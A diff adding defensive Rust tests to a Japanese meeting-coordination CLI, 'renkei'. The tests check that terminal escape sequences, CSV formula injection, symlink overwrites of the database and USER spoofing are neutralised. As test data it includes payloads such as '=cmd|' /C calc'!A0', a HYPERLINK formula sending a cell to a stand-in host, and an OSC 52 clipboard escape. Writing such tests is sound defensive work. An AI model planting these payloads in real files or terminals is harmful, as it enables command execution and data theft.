@@ -337,3 +337,595 @@ fn no_network_client_in_the_dependency_tree() {
         );
     }
 }
+
+/// The command succeeded; else its error is shown.
+fn succeeded(out: &std::process::Output) {
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// Stderr and stdout of a command that must have driven no terminal: no ESC, BEL, C1 control or
+/// bidi override anywhere.
+fn assert_inert(what: &str, text: &str) {
+    let hazard = |c: char| {
+        (c.is_control() && !matches!(c, '\n' | '\t'))
+            || matches!(c, '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
+    };
+    assert!(
+        !text.chars().any(hazard),
+        "{what} drives the terminal: {text:?}"
+    );
+}
+
+const OSC_AND_CSI: &str = "\u{1b}]0;乗っ取り\u{7}\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}";
+
+#[test]
+fn imported_text_in_an_error_never_drives_the_terminal() {
+    let db = TempDb::new();
+    assert!(renkei(&db).arg("demo").output().unwrap().status.success());
+    // A meeting book naming a body that does not exist: the error echoes the cell.
+    let book = db.file(
+        "book.csv",
+        format!("開催日,会議体\n2020/4/15,\"偽{OSC_AND_CSI}会議\"\n").as_bytes(),
+    );
+    // JSON whose body and date hold escapes.
+    let body = db.file(
+        "body.json",
+        serde_json::json!({"format": "renkei/1", "meetings": [{"body": format!("無い{OSC_AND_CSI}"), "date": "2026-11-30"}]})
+            .to_string()
+            .as_bytes(),
+    );
+    let date = db.file(
+        "date.json",
+        serde_json::json!({"format": "renkei/1", "meetings": [{"body": "就労支援部会", "date": format!("2026-11-{OSC_AND_CSI}")}]})
+            .to_string()
+            .as_bytes(),
+    );
+    for path in [&book, &body, &date] {
+        let out = renkei(&db).arg("import").arg(path).output().unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success(), "{path:?} was accepted");
+        assert_eq!(err.lines().count(), 1, "{err}");
+        assert_inert(&format!("{path:?}"), &err);
+    }
+    // Names given on the command line are echoed too.
+    for args in [
+        vec!["meetings", "--body", OSC_AND_CSI],
+        vec!["actions", "--agency", OSC_AND_CSI],
+    ] {
+        let out = renkei(&db).args(&args).output().unwrap();
+        assert!(!out.status.success());
+        assert_inert(args[0], &String::from_utf8_lossy(&out.stderr));
+    }
+}
+
+#[test]
+fn json_and_messages_on_a_terminal_carry_no_raw_control_character() {
+    let db = TempDb::new();
+    let evil = "会議\u{9b}31m\u{202E}\u{7f}";
+    let json = serde_json::json!({
+        "format": "renkei/1",
+        "bodies": [{ "name": evil, "organiser": "福祉課", "frequency": "年1回" }],
+    });
+    let path = db.file("c1.json", json.to_string().as_bytes());
+    assert!(
+        renkei(&db)
+            .arg("import")
+            .arg(&path)
+            .output()
+            .unwrap()
+            .status
+            .success()
+    );
+    for args in [vec!["bodies", "--format", "json"], vec!["export"]] {
+        let out = renkei(&db).args(&args).output().unwrap();
+        let text = String::from_utf8(out.stdout).unwrap();
+        assert_inert(args[0], &text);
+        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
+        assert!(value.to_string().contains(evil), "the data is unchanged");
+    }
+    // A database path with an escape in it, echoed by demo and check.
+    let dir = tempfile::tempdir().unwrap();
+    let odd = dir.path().join("x\u{1b}[2Jy.db");
+    for args in [vec!["demo"], vec!["check"]] {
+        let out = common::renkei_at(&odd).args(&args).output().unwrap();
+        succeeded(&out);
+        assert_inert(args[0], &String::from_utf8_lossy(&out.stdout));
+    }
+}
+
+/// A meeting scheduled on 2026-11-30 whose place holds escapes and a bare CR.
+fn meeting_with_a_hostile_place(db: &TempDb) {
+    let json = serde_json::json!({
+        "format": "renkei/1",
+        "bodies": [{ "name": "危険な会議体\u{1b}[2J", "organiser": "福祉課\r偽", "frequency": "年1回" }],
+        "meetings": [{
+            "body": "危険な会議体\u{1b}[2J", "date": "2026-11-30", "start": "10:00", "end": "11:00",
+            "place": "第1会議室\u{1b}]0;x\u{7}\r偽の行;カンマ,付き",
+        }]
+    });
+    let path = db.file("place.json", json.to_string().as_bytes());
+    let out = renkei(db).arg("import").arg(&path).output().unwrap();
+    succeeded(&out);
+}
+
+#[test]
+fn icalendar_text_is_inert_and_escaped_per_rfc_5545() {
+    let db = TempDb::new();
+    meeting_with_a_hostile_place(&db);
+    let out = renkei(&db)
+        .args(["upcoming", "--format", "ics", "--days", "30"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let ics = String::from_utf8(out.stdout).unwrap();
+    assert!(!ics.contains('\u{1b}') && !ics.contains('\u{7}'), "{ics:?}");
+    // Every CR ends a content line; none stands alone inside a value.
+    let bare_cr = ics
+        .match_indices('\r')
+        .filter(|(i, _)| !ics[i + 1..].starts_with('\n'));
+    assert_eq!(bare_cr.count(), 0, "{ics:?}");
+    let unfolded = ics.replace("\r\n ", "");
+    let location = unfolded
+        .lines()
+        .find(|l| l.starts_with("LOCATION"))
+        .unwrap_or_else(|| panic!("{ics}"));
+    assert!(
+        location.contains("\\n偽の行\\;カンマ\\,付き"),
+        "{location:?}"
+    );
+}
+
+/// The cells of a CSV export (BOM and all).
+fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    let text = std::str::from_utf8(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap()).unwrap();
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+fn no_formula(what: &str, cells: &[Vec<String>]) {
+    for cell in cells.iter().flatten() {
+        let number = cell.trim_start_matches(['-', '+']).parse::<f64>().is_ok();
+        assert!(
+            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{what}: a spreadsheet would run {cell:?}"
+        );
+    }
+}
+
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳細\")",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "\t=2+2",
+];
+
+#[test]
+fn csv_exports_never_hand_a_spreadsheet_a_formula() {
+    let db = TempDb::new();
+    let actions: Vec<_> = FORMULAS
+        .iter()
+        .map(|f| serde_json::json!({ "agency": f, "text": f, "due": "2026-12-01" }))
+        .collect();
+    let json = serde_json::json!({
+        "format": "renkei/1",
+        "bodies": [{ "name": "=1+1", "organiser": "@福祉課", "frequency": "年1回" }],
+        "meetings": [{
+            "body": "=1+1", "date": "2026-10-01", "status": "held", "basis": "=2*3",
+            "attendees": FORMULAS.iter().map(|f| serde_json::json!({ "agency": f })).collect::<Vec<_>>(),
+            "actions": actions, "issues": ["-1+1"],
+        }]
+    });
+    let path = db.file("formulas.json", json.to_string().as_bytes());
+    let out = renkei(&db).arg("import").arg(&path).output().unwrap();
+    succeeded(&out);
+    let actions = renkei(&db)
+        .args(["actions", "--format", "csv"])
+        .output()
+        .unwrap();
+    assert!(actions.status.success());
+    let cells = csv_cells(&actions.stdout);
+    no_formula("actions", &cells);
+    assert!(
+        cells.iter().flatten().any(|c| c == "'=cmd|' /C calc'!A0"),
+        "{cells:?}"
+    );
+    assert!(
+        cells.iter().flatten().any(|c| c == "'\t=2+2"),
+        "kept, behind a quote"
+    );
+    let report = renkei(&db)
+        .args(["report", "--fiscal-year", "2026", "--format", "csv"])
+        .output()
+        .unwrap();
+    assert!(report.status.success());
+    let cells = csv_cells(&report.stdout);
+    no_formula("report", &cells);
+    assert!(cells.iter().flatten().any(|c| c == "'-1+1"), "{cells:?}");
+    // Numbers stay numbers.
+    assert!(cells.iter().flatten().any(|c| c.parse::<f64>().is_ok()));
+}
+
+#[test]
+fn imports_keep_a_cell_as_typed() {
+    let db = TempDb::new();
+    let book = db.file(
+        "book.csv",
+        "開催日,会議体,参加機関\n2020/4/15,就労支援部会,\"\t=2+2、 福祉課　\"\n".as_bytes(),
+    );
+    assert!(renkei(&db).arg("demo").output().unwrap().status.success());
+    let out = renkei(&db)
+        .arg("import")
+        .arg(&book)
+        .arg("--create-bodies")
+        .output()
+        .unwrap();
+    succeeded(&out);
+    let bodies = db.file(
+        "bodies.csv",
+        "会議名,主催者\n\"\t=2+2\",\" 福祉課 \"\n".as_bytes(),
+    );
+    let out = renkei(&db).arg("import").arg(&bodies).output().unwrap();
+    succeeded(&out);
+    let exported = String::from_utf8(export(&db)).unwrap();
+    assert!(
+        exported.contains("\"agency\": \"\\t=2+2\""),
+        "agency kept as typed"
+    );
+    assert!(
+        exported.contains("\"agency\": \"福祉課\""),
+        "spaces trimmed"
+    );
+    assert!(
+        exported.contains("\"name\": \"\\t=2+2\""),
+        "body name kept as typed"
+    );
+}
+
+#[test]
+fn an_error_says_its_cause_once() {
+    let dir = tempfile::tempdir().unwrap();
+    // A database under a regular file: its directory cannot be made.
+    let file = dir.path().join("plain");
+    std::fs::write(&file, b"x").unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_renkei"))
+        .arg("--db")
+        .arg(file.join("renkei.db"))
+        .arg("bodies")
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success());
+    assert_eq!(err.lines().count(), 1, "{err}");
+    let cause = "Not a directory";
+    assert_eq!(err.matches(cause).count(), 1, "{err}");
+}
+
+/// Every print to a terminal or into a file passes the one sanitiser (`renkei::text`): a line that
+/// prints, outside the TUI (whose screen is drawn from cells and tested in tests/tui.rs), says
+/// `inert` — a call of it, or a comment naming why its text is already inert.
+#[test]
+fn no_print_bypasses_the_sanitiser() {
+    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
+    let mut files = Vec::new();
+    let mut dirs = vec![src.clone()];
+    while let Some(dir) = dirs.pop() {
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                dirs.push(path);
+            } else if path.extension().is_some_and(|e| e == "rs") {
+                files.push(path);
+            }
+        }
+    }
+    let anywhere = [
+        "println!",
+        "print!(",
+        "eprintln!",
+        "eprint!(",
+        "dbg!(",
+        "io::stdout()",
+        "io::stderr()",
+    ];
+    let in_commands = ["writeln!(", "write!(", ".write_all("];
+    let mut bypasses = Vec::new();
+    for path in files {
+        let relative = path
+            .strip_prefix(&src)
+            .unwrap()
+            .to_string_lossy()
+            .into_owned();
+        if relative.starts_with("tui/") {
+            continue;
+        }
+        let commands = relative.starts_with("cli/") || relative == "main.rs";
+        let text = std::fs::read_to_string(&path).unwrap();
+        let lines: Vec<&str> = text.lines().collect();
+        for (i, line) in lines.iter().enumerate() {
+            let code = line.split("//").next().unwrap_or("");
+            let prints = anywhere.iter().any(|p| code.contains(p))
+                || (commands && in_commands.iter().any(|p| code.contains(p)));
+            let said = line.contains("inert") || (i > 0 && lines[i - 1].contains("inert"));
+            if prints && !said && !line.trim_start().starts_with("//") {
+                bypasses.push(format!("src/{relative}:{}: {}", i + 1, line.trim()));
+            }
+        }
+    }
+    assert!(
+        bypasses.is_empty(),
+        "prints that bypass renkei::text::inert:\n{}",
+        bypasses.join("\n")
+    );
+}
+
+/// Every way of writing a file (`-o` of export, minutes, report and actions; backup) aimed at the
+/// database, its -wal or -shm, or a hard or symbolic link to them: refused with one line, and
+/// nothing changed.
+#[test]
+fn no_output_can_overwrite_the_database() {
+    let db = TempDb::new();
+    assert!(renkei(&db).arg("demo").output().unwrap().status.success());
+    let before = export(&db);
+    let dir = db.dir.path();
+    let hard = dir.join("hard.json");
+    std::fs::hard_link(&db.path, &hard).unwrap();
+    let soft = dir.join("soft.json");
+    std::os::unix::fs::symlink(&db.path, &soft).unwrap();
+    let soft_wal = dir.join("soft-wal.json");
+    std::os::unix::fs::symlink(dir.join("renkei.db-wal"), &soft_wal).unwrap();
+    let relative = std::path::PathBuf::from("renkei.db");
+    let targets = [
+        db.path.clone(),
+        dir.join("renkei.db-wal"),
+        dir.join("renkei.db-shm"),
+        hard.clone(),
+        soft.clone(),
+        soft_wal,
+        relative,
+    ];
+    for target in &targets {
+        let t = target.to_str().unwrap();
+        for args in [
+            vec!["export", "-o", t],
+            vec!["minutes", "1", "-o", t],
+            vec!["report", "--fiscal-year", "2026", "-o", t],
+            vec!["actions", "-o", t],
+            vec!["backup", "--force", t],
+        ] {
+            let out = renkei(&db).current_dir(dir).args(&args).output().unwrap();
+            let err = String::from_utf8_lossy(&out.stderr);
+            assert!(!out.status.success(), "{args:?} was allowed");
+            assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
+            assert!(err.contains("database"), "{args:?}: {err}");
+            assert_eq!(export(&db), before, "{args:?} changed the database");
+        }
+    }
+    // The links are still links to the database, and no stray file was left.
+    use std::os::unix::fs::MetadataExt;
+    let ino = std::fs::metadata(&db.path).unwrap().ino();
+    assert_eq!(std::fs::metadata(&hard).unwrap().ino(), ino);
+    assert!(
+        std::fs::symlink_metadata(&soft)
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+    let stray: Vec<_> = std::fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with('.'))
+        .collect();
+    assert!(stray.is_empty(), "{stray:?}");
+}
+
+/// The TUI's `w` writes minutes and reports through the same function: a file named as the
+/// export would be, planted as a link to the database, is refused too.
+#[test]
+fn the_screens_writer_refuses_the_database_too() {
+    let db = TempDb::new();
+    let mut store = db.open();
+    renkei::demo::load(&mut store).unwrap();
+    let before = common::dump(&store);
+    let planted = db.dir.path().join("minutes-2026-11-21-1.md");
+    std::os::unix::fs::symlink(&db.path, &planted).unwrap();
+    let err = renkei::store::write_private(&planted, b"# minutes").unwrap_err();
+    assert!(err.to_string().contains("database"), "{err}");
+    let wal = db.dir.path().join("renkei.db-wal");
+    assert!(renkei::store::write_private(&wal, b"x").is_err());
+    assert_eq!(common::dump(&store), before);
+    drop(store);
+    assert_eq!(common::dump(&db.open()), before);
+}
+
+/// `--db file:…` is a file of that name, never an SQLite URI: the database is created where the
+/// permissions are applied, and `check` reports on it.
+#[test]
+fn a_database_path_is_never_a_uri() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let uri = format!("file:{}/x.db", root.display());
+    let out = Command::new(env!("CARGO_BIN_EXE_renkei"))
+        .current_dir(root)
+        .env("RENKEI_NOW", NOW)
+        .args(["--db", &uri, "demo"])
+        .output()
+        .unwrap();
+    succeeded(&out);
+    assert!(!root.join("x.db").exists(), "the URI's file was created");
+    let file = root.join(&uri);
+    assert!(
+        std::fs::read(&file)
+            .unwrap()
+            .starts_with(b"SQLite format 3\0")
+    );
+    assert_eq!(mode(&file), 0o600);
+    let out = Command::new(env!("CARGO_BIN_EXE_renkei"))
+        .current_dir(root)
+        .args(["--db", &uri, "check"])
+        .output()
+        .unwrap();
+    succeeded(&out);
+    let report = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        report.contains("会議: ") || report.contains("meetings: "),
+        "{report}"
+    );
+    assert!(
+        !report.contains("会議: 0"),
+        "check looked at the real database: {report}"
+    );
+}
+
+/// The login of the real uid, as `id -un` says it.
+fn real_login() -> String {
+    let out = Command::new("id").arg("-un").output().unwrap();
+    String::from_utf8(out.stdout).unwrap().trim().to_owned()
+}
+
+/// `USER=bob renkei approve` run by someone else records who really ran it — with the config's
+/// name beside the login, never instead of it — in the approval and the audit.
+#[test]
+fn the_acting_user_is_the_real_uid_not_user() {
+    let db = TempDb::new();
+    assert!(renkei(&db).arg("demo").output().unwrap().status.success());
+    let held = renkei(&db)
+        .args(["meetings", "--format", "json"])
+        .output()
+        .unwrap();
+    let list: serde_json::Value = serde_json::from_slice(&held.stdout).unwrap();
+    let id = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|m| m["status"] == "held")
+        .unwrap()["id"]
+        .to_string();
+    let config = db.file("config.toml", "name = \"ボブ\"\n".as_bytes());
+    let out = renkei(&db)
+        .env("USER", "bob")
+        .env("LOGNAME", "bob")
+        .env("RENKEI_CONFIG", &config)
+        .args(["approve", &id])
+        .output()
+        .unwrap();
+    succeeded(&out);
+    let me = real_login();
+    let signature = format!("{me} (ボブ)");
+    assert!(String::from_utf8_lossy(&out.stdout).contains(&signature));
+    let audit = renkei(&db)
+        .env("USER", "bob")
+        .args(["audit", "--meeting", &id, "--format", "json"])
+        .output()
+        .unwrap();
+    let rows: serde_json::Value = serde_json::from_slice(&audit.stdout).unwrap();
+    let approval = rows
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["action"] == "approve_minutes")
+        .unwrap();
+    assert_eq!(approval["by"], signature.as_str(), "{approval}");
+    assert!(!rows.to_string().contains("\"bob\""), "{rows}");
+    let minutes = renkei(&db).args(["minutes", &id]).output().unwrap();
+    assert!(String::from_utf8_lossy(&minutes.stdout).contains(&signature));
+}
+
+/// A gid the user is not in, for a stranger group's directory.
+fn stranger_gid() -> u32 {
+    let out = Command::new("id").arg("-G").output().unwrap();
+    let mine: Vec<u32> = String::from_utf8(out.stdout)
+        .unwrap()
+        .split_whitespace()
+        .map(|g| g.parse().unwrap())
+        .collect();
+    (4242..).find(|g| !mine.contains(g)).unwrap()
+}
+
+fn setgid_dir(path: &std::path::Path, gid: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::create_dir(path).unwrap();
+    std::os::unix::fs::chown(path, None, Some(gid)).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o2770)).unwrap();
+}
+
+#[test]
+fn a_setgid_directory_of_a_stranger_group_shares_nothing() {
+    let db = TempDb::new();
+    assert!(renkei(&db).arg("demo").output().unwrap().status.success());
+    let strangers = db.dir.path().join("strangers");
+    setgid_dir(&strangers, stranger_gid());
+    let export = strangers.join("all.json");
+    succeeded(
+        &renkei(&db)
+            .arg("export")
+            .arg("-o")
+            .arg(&export)
+            .output()
+            .unwrap(),
+    );
+    assert_eq!(mode(&export), 0o600, "export");
+    let minutes = strangers.join("minutes.md");
+    succeeded(
+        &renkei(&db)
+            .args(["minutes", "1", "-o"])
+            .arg(&minutes)
+            .output()
+            .unwrap(),
+    );
+    assert_eq!(mode(&minutes), 0o600, "minutes");
+    let backup = strangers.join("copy.db");
+    succeeded(&renkei(&db).arg("backup").arg(&backup).output().unwrap());
+    assert_eq!(mode(&backup), 0o600, "backup");
+    let theirs = strangers.join("renkei.db");
+    succeeded(&common::renkei_at(&theirs).arg("demo").output().unwrap());
+    assert_eq!(mode(&theirs), 0o600, "database");
+}
+
+#[test]
+fn directories_made_under_a_shared_one_are_shared_alike() {
+    let dir = tempfile::tempdir().unwrap();
+    let section = dir.path().join("section");
+    let out = Command::new("id").arg("-g").output().unwrap();
+    let gid = String::from_utf8(out.stdout)
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    setgid_dir(&section, gid);
+    let db = section.join("2026").join("ward").join("renkei.db");
+    succeeded(&common::renkei_at(&db).arg("demo").output().unwrap());
+    assert_eq!(mode(&section.join("2026")), 0o2770);
+    assert_eq!(mode(&section.join("2026").join("ward")), 0o2770);
+    assert_eq!(mode(&db), 0o660);
+}
+
+#[test]
+fn check_warns_about_a_read_only_sidecar_and_says_how_to_mend_it() {
+    let db = TempDb::new();
+    let store = db.open();
+    let shm = db.dir.path().join("renkei.db-shm");
+    assert!(shm.exists());
+    std::fs::set_permissions(&shm, std::os::unix::fs::PermissionsExt::from_mode(0o400)).unwrap();
+    let out = common::renkei(&db).arg("check").output().unwrap();
+    let report = String::from_utf8_lossy(&out.stdout);
+    let warning = report
+        .lines()
+        .find(|l| l.starts_with("警告") && l.contains("renkei.db-shm"))
+        .unwrap_or_else(|| panic!("{report}"));
+    assert!(warning.contains("chmod 600"), "{warning}");
+    // Opening the database mends its own sidecar.
+    drop(db.open());
+    assert_eq!(mode(&shm), 0o600);
+    drop(store);
+}
